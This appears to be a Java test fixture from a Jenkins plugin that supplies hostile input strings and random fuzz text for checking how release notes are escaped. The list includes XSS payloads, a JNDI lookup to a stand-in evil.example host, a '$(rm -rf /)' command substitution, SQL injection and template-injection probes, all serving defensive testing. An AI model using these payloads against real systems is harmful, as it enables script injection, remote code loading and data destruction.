package io.jenkins.plugins.deploymentworkflow.release.notes;

import java.util.List;
import java.util.Random;
import java.util.stream.Collectors;
import java.util.stream.IntStream;

/** Texts that somebody writes who wants to break something. */
final class Hostile {
    static final List<String> TEXTS = List.of(
            "<script>alert(1)</script>",
            "<img src=x onerror=alert(1)>",
            "[click](javascript:alert(1))",
            "![x](https://evil.example/pixel.png)",
            "[x]: https://evil.example",
            "[x][y] and [z]",
            "<https://evil.example>",
            "https://evil.example/a_b(c)?d=e&f=<g>",
            "www.evil.example is here",
            "(www.evil.example)",
            "see mailto:a@evil.example now",
            "a@evil.example",
            "@everyone look, @acme/owners too",
            "<!channel> <!here> <@U123> <!subteam^S1|x>",
            "# heading",
            "---",
            "===",
            "- list",
            "+ list",
            "1. list",
            "12) list",
            "> quote",
            "```",
            "~~~ java",
            "`code` and ``more`` and ` one",
            "**bold** __bold__ *em* _em_ ~~gone~~",
            "a | b | c",
            "|---|---|",
            "&lt;script&gt; &#x202e; &amp; AT&T &",
            "{{config}} {% raw %} ${jndi:ldap://evil.example/a}",
            "<!-- comment -->",
            "-->",
            "\\[not\\] \\`a\\`",
            "trailing backslash \\",
            "$x^2$ and $(rm -rf /) `id`",
            "snake_case and __init__.py and _private",
            "=1+1",
            ": definition",
            "!!! note",
            "<a href='x'>\"quoted\"</a>",
            "*a* `*b*` [*c*](d)",
            "]()[](",
            "' or 1=1; --");

    private static final String ALPHABET = "ab1 _*`~[](){}<>!#|\\&;:.@/'\"=+-^$%\u00e9\u4e2d";
    private static final List<String> PIECES =
            List.of("https://x.y", "www.", "@a", "&lt;", "](", "```", "<b>", "1. ", "a@b.c");

    private Hostile() {}

    static String text(Random random) {
        return IntStream.range(0, 1 + random.nextInt(30))
                .mapToObj(i -> random.nextInt(6) == 0
                        ? PIECES.get(random.nextInt(PIECES.size()))
                        : String.valueOf(ALPHABET.charAt(random.nextInt(ALPHABET.length()))))
                .collect(Collectors.joining());
    }
}
